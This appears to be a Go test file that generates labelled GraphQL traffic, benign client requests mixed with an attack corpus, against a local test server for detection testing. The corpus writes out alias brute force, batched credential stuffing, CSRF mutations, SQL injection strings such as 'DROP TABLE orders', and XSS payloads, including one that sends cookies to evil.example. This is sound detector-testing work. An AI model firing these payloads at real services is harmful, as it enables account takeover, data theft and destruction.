package gqltest

import (
	"bytes"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/apitap/apitap/internal/testgen/pcapgen"
	"github.com/apitap/apitap/internal/testutil/netrec"
)

// Case is one request sent: its X-Case header is its index.
type Case struct {
	// Label is "" for a benign request, else the detection class it was
	// made to trigger.
	Label string
	// Ops are the catalog keys of its operations, "METHOD type name" (an
	// anonymous operation: "METHOD type {root,fields}").
	Ops []string
}

// Result is a recorded run.
type Result struct {
	Packets []pcapgen.Packet
	Cases   []Case
}

const frag = ` fragment ProductFields on Product { sku name price }`

// benign operations of the web client: name, query, variables maker
var webOps = []struct {
	key, query string
	vars       func(r *rand.Rand) map[string]any
}{
	{"query GetMe", `query GetMe { me { id name email } }`, nil},
	{"query GetProduct", `query GetProduct($sku: String!) { product(sku: $sku) { ...ProductFields reviews { rating author { name } } } }` + frag,
		func(r *rand.Rand) map[string]any { return map[string]any{"sku": fmt.Sprintf("SKU-%d", 100+r.IntN(6))} }},
	{"query ListProducts", `query ListProducts($first: Int, $category: String) { products(first: $first, category: $category) { ...ProductFields } }` + frag,
		func(r *rand.Rand) map[string]any {
			return map[string]any{"first": 5 + r.IntN(20), "category": []string{"books", "games"}[r.IntN(2)]}
		}},
	{"query Search", `query Search($term: String!) { search(term: $term) { sku name } }`,
		func(r *rand.Rand) map[string]any {
			return map[string]any{"term": []string{"lamp", "garden chair", "usb cable", "coffee", "board game"}[r.IntN(5)]}
		}},
	{"query GetOrder", `query GetOrder($id: ID!) { order(id: $id) { id total items { sku } } }`,
		func(r *rand.Rand) map[string]any { return map[string]any{"id": strconv.Itoa(500 + r.IntN(4))} }},
	{"mutation AddToCart", `mutation AddToCart($sku: String!, $qty: Int) { addToCart(sku: $sku, qty: $qty) { id total } }`,
		func(r *rand.Rand) map[string]any {
			return map[string]any{"sku": fmt.Sprintf("SKU-%d", 100+r.IntN(6)), "qty": 1 + r.IntN(3)}
		}},
	{"mutation Checkout", `mutation Checkout($cartId: ID!) { checkout(cartId: $cartId) { id total } }`,
		func(r *rand.Rand) map[string]any { return map[string]any{"cartId": "c1"} }},
	{"mutation UpdateProfile", `mutation UpdateProfile($name: String, $phone: String) { updateProfile(name: $name, phone: $phone) { id name } }`,
		func(r *rand.Rand) map[string]any {
			return map[string]any{"name": []string{"Ann Lee", "Bo Chen", "Carla Diaz"}[r.IntN(3)], "phone": "+1-202-555-01" + strconv.Itoa(10+r.IntN(80))}
		}},
	{"mutation Login", `mutation Login($email: String!, $password: String!) { login(email: $email, password: $password) { token } }`,
		func(r *rand.Rand) map[string]any {
			return map[string]any{"email": fmt.Sprintf("user%d@shop.example", 1+r.IntN(4)), "password": "correct horse"}
		}},
	{"query MyFriends", `query MyFriends { me { friends { name orders { total } } } }`, nil},
}

// persisted queries of the mobile client
var apqOps = []struct{ key, query string }{
	{"query FeedProducts", `query FeedProducts { products(first: 5) { sku name price } }`},
	{"query MyOrders", `query MyOrders { me { orders { id total } } }`},
}

// Record runs the server, benign requests (about n) and, with attacks,
// the attack corpus mixed in; seed makes the mix.
func Record(t testing.TB, seed uint64, n int, attacks bool) Result {
	t.Helper()
	srv := httptest.NewServer(newHandler())
	defer srv.Close()
	rec := &netrec.Recorder{}
	rnd := rand.New(rand.NewPCG(seed, seed^0x9e3779b9))
	var cases []Case
	clients := map[string]*http.Client{}
	client := func(name string) *http.Client {
		c := clients[name]
		if c == nil {
			c = &http.Client{Transport: &http.Transport{DialContext: rec.Dial, MaxIdleConnsPerHost: 1}}
			clients[name] = c
		}
		return c
	}
	send := func(who string, req *http.Request, c Case) {
		req.Header.Set("X-Case", strconv.Itoa(len(cases)))
		req.Header.Set("User-Agent", map[string]string{"web": "Mozilla/5.0 (Macintosh) Chrome/131.0 apollo-client/3.11", "mobile": "ShopApp/4.2 (iOS 18) apollo-ios/1.15",
			"batch": "Mozilla/5.0 (Windows NT 10.0) Firefox/133.0", "get": "Mozilla/5.0 (X11) Chrome/131.0", "cli": "curl/8.5.0", "attacker": "python-requests/2.32"}[who])
		cases = append(cases, c)
		resp, err := client(who).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
	}
	post := func(who string, body any, c Case) {
		b, _ := json.Marshal(body)
		req, _ := http.NewRequest("POST", srv.URL+"/graphql", bytes.NewReader(b))
		req.Header.Set("Content-Type", "application/json")
		send(who, req, c)
	}
	postRaw := func(who, ct, body string, c Case) {
		req, _ := http.NewRequest("POST", srv.URL+"/graphql", strings.NewReader(body))
		req.Header.Set("Content-Type", ct)
		send(who, req, c)
	}
	get := func(who string, q url.Values, c Case) {
		req, _ := http.NewRequest("GET", srv.URL+"/graphql?"+q.Encode(), nil)
		send(who, req, c)
	}
	op := func(i int) map[string]any {
		o := webOps[i]
		m := map[string]any{"query": o.query, "operationName": strings.Fields(o.key)[1]}
		if o.vars != nil {
			m["variables"] = o.vars(rnd)
		}
		return m
	}
	benign := func() {
		switch k := rnd.IntN(100); {
		case k < 60: // web app
			i := rnd.IntN(len(webOps))
			post("web", op(i), Case{Ops: []string{"POST " + webOps[i].key}})
		case k < 72: // mobile: automatic persisted queries
			o := apqOps[rnd.IntN(len(apqOps))]
			sum := sha256.Sum256([]byte(o.query))
			ext := map[string]any{"persistedQuery": map[string]any{"version": 1, "sha256Hash": hex.EncodeToString(sum[:])}}
			name := strings.Fields(o.key)[1]
			post("mobile", map[string]any{"operationName": name, "extensions": ext}, Case{Ops: []string{"POST " + o.key}})
			post("mobile", map[string]any{"operationName": name, "query": o.query, "extensions": ext}, Case{Ops: []string{"POST " + o.key}})
		case k < 80: // batches of two or three
			list := []any{op(0), op(2)}
			ops := []string{"POST " + webOps[0].key, "POST " + webOps[2].key}
			if rnd.IntN(2) == 0 {
				list = append(list, map[string]any{"query": `query Categories { products { category } }`})
				ops = append(ops, "POST query Categories")
			}
			post("batch", list, Case{Ops: ops})
		case k < 90: // cacheable GETs
			if rnd.IntN(2) == 0 {
				v, _ := json.Marshal(map[string]any{"sku": fmt.Sprintf("SKU-%d", 100+rnd.IntN(6))})
				get("get", url.Values{"query": {`query ProductPage($sku: String!) { product(sku: $sku) { sku name price category } }`}, "operationName": {"ProductPage"}, "variables": {string(v)}},
					Case{Ops: []string{"GET query ProductPage"}})
			} else {
				get("get", url.Values{"query": {`query TopProducts { products(first: 3) { sku name } }`}}, Case{Ops: []string{"GET query TopProducts"}})
			}
		case k < 96: // scripts: anonymous queries
			if rnd.IntN(2) == 0 {
				post("cli", map[string]any{"query": fmt.Sprintf(`{ products(first: %d) { sku price } }`, 1+rnd.IntN(9))}, Case{Ops: []string{"POST query {products}"}})
			} else {
				post("cli", map[string]any{"query": `{ me { name } }`}, Case{Ops: []string{"POST query {me}"}})
			}
		default: // application/graphql
			postRaw("cli", "application/graphql", `query HealthCheck { __typename }`, Case{Ops: []string{"POST query HealthCheck"}})
		}
	}
	var attackFns []func(i int)
	if attacks {
		attackFns = attackCorpus(rnd, post, postRaw, get)
	}
	// the attacks spread over the benign traffic, in a seeded order
	total := n + len(attackFns)*attackRepeat
	order := make([]int, total)
	for i := range order {
		order[i] = i
	}
	rnd.Shuffle(len(order), func(i, j int) { order[i], order[j] = order[j], order[i] })
	for _, k := range order {
		if k < n {
			benign()
		} else {
			k -= n
			attackFns[k%len(attackFns)](k / len(attackFns))
		}
	}
	for _, c := range clients {
		c.CloseIdleConnections()
	}
	time.Sleep(10 * time.Millisecond)
	pkts := rec.Packets(netip.MustParseAddr("10.0.1.20"), netip.MustParseAddrPort("10.0.2.10:80"), pcapgen.Base)
	return Result{Packets: pkts, Cases: cases}
}

// attackRepeat is how many times each attack of the corpus is sent (with
// variations).
const attackRepeat = 12

// IntrospectionQuery is the query GraphiQL and most tools send.
const IntrospectionQuery = `query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { ...FullType } directives { name locations args { ...InputValue } } } }
fragment FullType on __Type { kind name fields(includeDeprecated: true) { name args { ...InputValue } type { ...TypeRef } isDeprecated } inputFields { ...InputValue } enumValues(includeDeprecated: true) { name } possibleTypes { ...TypeRef } }
fragment InputValue on __InputValue { name type { ...TypeRef } defaultValue }
fragment TypeRef on __Type { kind name ofType { kind name ofType { kind name ofType { kind name } } } }`

func attackCorpus(rnd *rand.Rand, post func(string, any, Case), postRaw func(string, string, string, Case), get func(string, url.Values, Case)) []func(int) {
	a := func(label string) Case { return Case{Label: label} }
	nest := func(d int) string { // me { friends { friends { ... name } } }
		return strings.Repeat("friends { ", d) + "name" + strings.Repeat(" }", d)
	}
	return []func(int){
		func(i int) {
			if i%3 == 2 {
				get("attacker", url.Values{"query": {`query { __schema { types { name fields { name } } } }`}}, a("graphql_introspection"))
				return
			}
			post("attacker", map[string]any{"query": IntrospectionQuery, "operationName": "IntrospectionQuery"}, a("graphql_introspection"))
		},
		func(i int) {
			post("attacker", map[string]any{"query": "query Deep { me { " + nest(11+i) + " } }"}, a("graphql_depth"))
		},
		func(i int) { // one field under many aliases: a login brute force in one request
			var b strings.Builder
			b.WriteString("mutation {")
			for k := 0; k < 20+i*3; k++ {
				fmt.Fprintf(&b, ` a%d: login(email: "admin@shop.example", password: "guess%d") { token }`, k, rnd.IntN(1e6))
			}
			b.WriteString(" }")
			post("attacker", map[string]any{"query": b.String()}, a("graphql_alias_abuse"))
		},
		func(i int) { // many operations in one request: credential stuffing
			var list []any
			for k := 0; k < 25+i*5; k++ {
				list = append(list, map[string]any{"query": `mutation Login($email: String!, $password: String!) { login(email: $email, password: $password) { token } }`,
					"variables": map[string]any{"email": fmt.Sprintf("victim%d@mail.example", k), "password": fmt.Sprintf("Summer%d!", 2000+rnd.IntN(30))}})
			}
			post("attacker", list, a("graphql_batching"))
		},
		func(i int) {
			post("attacker", map[string]any{"query": "query { me { name" + strings.Repeat(" @include(if: true)", 8+i) + " } }"}, a("graphql_directive_overload"))
		},
		func(i int) {
			post("attacker", map[string]any{"query": fmt.Sprintf(`query Loop%d { me { ...A } } fragment A on User { name friends { ...B } } fragment B on User { email friends { ...A } }`, i)}, a("graphql_circular_fragment"))
		},
		func(i int) { // a mutation a cross-site page can send
			if i%2 == 0 {
				get("attacker", url.Values{"query": {fmt.Sprintf(`mutation { updateProfile(name: "pwned%d") { id } }`, i)}}, a("graphql_csrf"))
				return
			}
			postRaw("attacker", "text/plain", fmt.Sprintf(`{"query":"mutation { addToCart(sku: \"SKU-10%d\", qty: 99) { id } }"}`, i%6), a("graphql_csrf"))
		},
		func(i int) { // probing for names with introspection off
			typos := []string{"nam", "frends", "ordrs", "emai", "nme", "ordes"} // names the server suggests a field for (graph-gophers does not for every typo)
			post("attacker", map[string]any{"query": fmt.Sprintf(`query { me { %s } }`, typos[i%len(typos)])}, a("graphql_field_suggestion"))
		},
		func(i int) { // an argument the server chokes on: its error leaks internals
			post("attacker", map[string]any{"query": `query Search($term: String!) { search(term: $term) { sku } }`, "variables": map[string]any{"term": fmt.Sprintf("O'Brien %d", i)}}, a("graphql_verbose_error"))
		},
		func(i int) { // SQL injection in a variable
			payloads := []string{"' UNION SELECT username, password FROM users--", "1' OR '1'='1' -- ", "'; DROP TABLE orders; --", "' AND 1=CONVERT(int,(SELECT @@version))--"}
			post("attacker", map[string]any{"query": `query Search($term: String!) { search(term: $term) { sku } }`, "variables": map[string]any{"term": payloads[i%len(payloads)]}}, a("sqli"))
		},
		func(i int) { // SQL injection in an argument literal
			payloads := []string{`1' UNION SELECT null, password FROM users--`, `x' OR 1=1 --`, `' OR 'a'='a' /*`}
			q, _ := json.Marshal(payloads[i%len(payloads)])
			post("attacker", map[string]any{"query": fmt.Sprintf(`query { search(term: %s) { sku } }`, q)}, a("sqli"))
		},
		func(i int) { // XSS in a variable
			payloads := []string{`<script>alert(document.cookie)</script>`, `<img src=x onerror=alert(1)>`, `<svg/onload=fetch('//evil.example/'+document.cookie)>`}
			post("attacker", map[string]any{"query": `mutation UpdateProfile($name: String) { updateProfile(name: $name) { id } }`, "variables": map[string]any{"name": payloads[i%len(payloads)]}}, a("xss"))
		},
		func(i int) { // SQL injection in the variables of a GET
			v, _ := json.Marshal(map[string]any{"term": fmt.Sprintf("' UNION SELECT %d, password FROM users--", i)})
			get("attacker", url.Values{"query": {`query Search($term: String!) { search(term: $term) { sku } }`}, "variables": {string(v)}}, a("sqli"))
		},
	}
}
